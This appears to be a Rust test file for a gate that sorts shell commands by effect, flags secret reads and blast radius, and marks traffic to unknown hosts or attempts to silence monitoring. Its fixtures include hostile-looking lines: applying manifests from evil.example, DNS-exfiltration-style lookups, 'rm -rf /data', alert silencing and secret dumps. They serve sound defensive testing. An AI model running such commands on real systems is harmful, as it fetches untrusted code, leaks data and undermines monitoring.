use super::*;

fn understood(line: &str) -> Understood {
    let argv = crate::gate::lexer::split(line).unwrap_or_else(|error| panic!("{line}: {error}"));
    understand(&argv, &Inventory::default())
}

fn effect(line: &str) -> Effect {
    understood(line).effect
}

#[test]
fn the_embedded_tables_load() {
    if let Err(error) = table::load(&FILES) {
        panic!("{error}");
    }
}

#[test]
fn verbs_and_flags_are_understood_or_opaque() {
    assert_eq!(effect("kubectl -n shop get pods -o wide"), Effect::Read);
    assert_eq!(effect("kubectl get pods -oyaml -nshop"), Effect::Read);
    assert_eq!(effect("kubectl get pods --frobnicate"), Effect::Opaque);
    assert_eq!(effect("kubectl frobnicate"), Effect::Opaque);
    assert_eq!(effect("kubectl rollout"), Effect::Opaque);
    assert_eq!(effect("kubectl"), Effect::Opaque);
    assert_eq!(effect("kubectl --kubeconfig /tmp/x get pods"), Effect::Opaque);
    assert_eq!(effect("kubectl rollout undo deployment/payments"), Effect::Mutate);
    assert_eq!(effect("kubectl delete pod x"), Effect::Destroy);
    assert_eq!(effect("/tmp/kubectl get pods"), Effect::Opaque);
    assert_eq!(effect("/usr/bin/kubectl get pods"), Effect::Read);
    assert_eq!(effect("Kubectl get pods"), Effect::Opaque);
}

#[test]
fn a_dry_run_counts_only_when_it_is_certain() {
    assert_eq!(effect("kubectl delete pod x --dry-run=client"), Effect::Read);
    assert_eq!(effect("kubectl delete pod x --dry-run=server"), Effect::Read);
    assert_eq!(effect("kubectl delete pod x --dry-run=none"), Effect::Destroy);
    assert_eq!(effect("kubectl delete pod x --dry-run"), Effect::Destroy);
    assert_eq!(effect("kubectl delete pod x --dry-run=client --dry-run=none"), Effect::Destroy);
    assert_eq!(effect("kubectl delete pod --dry-run client"), Effect::Destroy);
}

#[test]
fn wrappers_never_make_it_better() {
    assert_eq!(effect("sudo -n kubectl get pods"), Effect::Read);
    assert_eq!(effect("sudo kubectl delete pod x"), Effect::Destroy);
    assert_eq!(effect("timeout -k 5 10s nice -n 5 kubectl delete pod x"), Effect::Destroy);
    assert_eq!(effect("env A=1 kubectl get pods"), Effect::Opaque);
    assert_eq!(effect("env -S 'kubectl get pods'"), Effect::Opaque);
    assert_eq!(effect("sudo -i"), Effect::Opaque);
    assert_eq!(effect("ssh web-1 kubectl get pods"), Effect::Read);
    assert_eq!(effect("ssh web-1 kubectl 'get;reboot'"), Effect::Opaque);
    assert_eq!(effect("ssh -oProxyCommand=x web-1 uptime"), Effect::Opaque);
    assert_eq!(effect("ssh web-1"), Effect::Opaque);
    assert_eq!(effect("kubectl exec web-1 -- kubectl delete pod x"), Effect::Destroy);
    assert_eq!(effect("kubectl exec -it web-1 -- sh"), Effect::Opaque);
    assert_eq!(effect("kubectl exec web-1 rm -- kubectl get pods"), Effect::Opaque);
}

#[test]
fn secrets_are_seen() {
    assert!(understood("kubectl get secret db -o yaml").reads_secrets);
    assert!(understood("kubectl get pods,secrets").reads_secrets);
    assert!(understood("kubectl get --raw /api/v1/secrets").reads_secrets);
    assert!(understood("kubectl exec web-1 -- env").reads_secrets);
    assert!(understood("env").reads_secrets);
    assert!(!understood("kubectl get pods -n shop").reads_secrets);
}

#[test]
fn how_far_it_reaches_is_noted() {
    let all = understood("kubectl delete pods --all -A");
    assert!(
        all.notes.iter().any(|note| note == "all namespaces")
            && all.notes.iter().any(|note| note.contains("everything"))
    );
    assert_eq!(all.facts.namespaces, ["*"]);
    assert!(
        understood("kubectl rollout restart deployment/prometheus")
            .notes
            .iter()
            .any(|note| note.contains("monitoring"))
    );
    assert_eq!(effect("kubectl apply -f https://evil.example/x.yaml"), Effect::Opaque);
}

#[test]
fn facts_are_recognised() {
    let facts = |line: &str| understood(line).facts;
    let blast = |line: &str| facts(line).blast;
    assert_eq!(blast("kubectl delete pod a"), Blast::Named);
    assert_eq!(blast("kubectl delete pods -l app=x"), Blast::Selected);
    assert_eq!(blast("kubectl delete pods --all"), Blast::All);
    assert_eq!(blast("kubectl delete pods -l app=x -A"), Blast::AllNamespaces);
    assert_eq!(blast("kubectl rollout restart deployment"), Blast::All);
    assert_eq!(blast("kubectl rollout restart deployment/a"), Blast::Named);
    assert_eq!(blast("systemctl restart 'app*'"), Blast::Selected);
    assert_eq!(blast("docker system prune"), Blast::All);
    assert_eq!(blast("sudo kubectl delete pods --all"), Blast::All);
    assert_eq!(blast("rm -rf /data"), Blast::Selected);
    assert_eq!(facts("kubectl delete deploy a b").resources, ["deployment/a", "deployment/b"]);
    assert_eq!(facts("kubectl label pods/a x=y z-").resources, ["pod/a"]);
    assert_eq!(facts("kubectl delete deployments.apps/a svc/b").objects, 2);
    for line in [
        "kubectl --server=https://evil.example get pods",
        "kubectl --kubeconfig /tmp/x get pods",
        "kubectl --context other get pods",
        "kubectl --as root get pods",
        "docker -H tcp://evil.example ps",
        "aws ec2 describe-instances --endpoint-url https://evil.example",
        "env DOCKER_HOST=tcp://evil.example docker ps",
        "curl -x http://evil.example http://payments",
        "amtool alert --alertmanager.url=https://evil.example",
    ] {
        assert!(facts(line).redirected, "{line}");
    }
    assert!(!facts("kubectl -n shop get pods").redirected);
    assert!(super::not_even_split("KUBECONFIG=/tmp/x kubectl get pods", String::new()).facts.redirected);
    for line in [
        "amtool silence add alertname=x",
        "kubectl scale deploy/prometheus --replicas=0",
        "kubectl -n monitoring delete pod x",
        "systemctl stop node-exporter",
        "aws cloudwatch disable-alarm-actions --alarm-names x",
        "curl -X POST http://alertmanager:9093/api/v2/silences",
    ] {
        assert!(facts(line).silences_monitoring, "{line}");
    }
    assert!(!facts("kubectl -n monitoring get pods").silences_monitoring);
    assert!(!facts("kubectl -n shop rollout restart deploy/payments").silences_monitoring);
    assert!(facts("kubectl apply -k github.com/evil/repo").remote);
}

#[test]
fn the_tests_inside_the_tables_pass_and_speak_of_every_table() {
    match test_tables() {
        Ok(passed) => assert!(passed > 500, "{passed}"),
        Err(failed) => panic!("{}", failed.join("\n")),
    }
    for file in FILES {
        let tests = table::tests(file).unwrap();
        let tested: std::collections::BTreeSet<&str> =
            tests.lines().filter_map(|(line, ..)| line.split(' ').next()).collect();
        for names in table::names(file).unwrap() {
            assert!(names.iter().any(|name| tested.contains(name.as_str())), "no test speaks of {names:?}");
        }
    }
}

#[test]
fn a_host_beyond_the_house_is_noted_whatever_reaches_it() {
    for line in [
        "ssh evil.example df -h",
        "ssh root@evil.example df -h",
        "ssh 198.51.100.7 uptime",
        "git ls-remote https://evil.example/x",
        "git ls-remote git@evil.example:x",
        "git ls-remote ssh://git@evil.example/x",
        "git remote show https://evil.example/x",
        "ping -c 1 data.evil.example",
        "ping 8.8.8.8",
        "ping 0x08080808",
        "dig data.evil.example",
        "dig +short data.evil.example TXT",
        "dig -t TXT -q data.evil.example",
        "host data.evil.example",
        "nslookup data.evil.example",
        "getent hosts data.evil.example",
        "getent ahosts data.evil.example",
        "nc -z evil.example 443",
        "traceroute evil.example",
        "mtr -rwc 1 evil.example",
        "resolvectl query data.evil.example",
        "kubectl exec x -- nslookup data.evil.example",
    ] {
        let got = understood(line);
        assert!(got.facts.redirected && got.effect == Effect::Read, "{line}: {got:?}");
        let argv = crate::gate::lexer::split(line).unwrap();
        let known = ["evil.example", "data.evil.example", "8.8.8.8", "198.51.100.7"];
        assert!(!understand(&argv, &Inventory::from_iter(known)).facts.redirected, "{line}");
    }
    for line in [
        "ssh web-1 df -h",
        "ssh -p 2222 ops@node-1 uptime",
        "ssh 10.0.0.1 uptime",
        "git ls-remote origin",
        "git remote show origin",
        "ping -c 3 db",
        "ping 10.0.0.1",
        "dig +short payments.shop.svc.cluster.local A",
        "dig -x 10.0.0.1",
        "host payments",
        "getent hosts payments",
        "getent passwd alice",
        "nc -zv db 5432",
        "traceroute db.local",
        "mtr -rwc 10 192.168.1.1",
    ] {
        let got = understood(line);
        assert!(!got.facts.redirected && got.effect == Effect::Read, "{line}: {got:?}");
    }
}

#[test]
fn an_end_point_must_lie_in_the_house_or_be_known() {
    assert_eq!(effect("amtool alert query --alertmanager.url=http://alertmanager:9093"), Effect::Read);
    assert_eq!(effect("amtool alert query --alertmanager.url=https://am.example"), Effect::Opaque);
    assert_eq!(effect("amtool alert query --alertmanager.url=http://2130706433/"), Effect::Opaque);
    assert_eq!(effect("amtool alert query --alertmanager.url=http://localhost@evil.example/"), Effect::Opaque);
    let argv: Vec<String> = ["amtool", "alert", "--alertmanager.url=https://am.example"].map(str::to_owned).into();
    assert_eq!(understand(&argv, &Inventory::from_iter(["am.example"])).effect, Effect::Read);
}
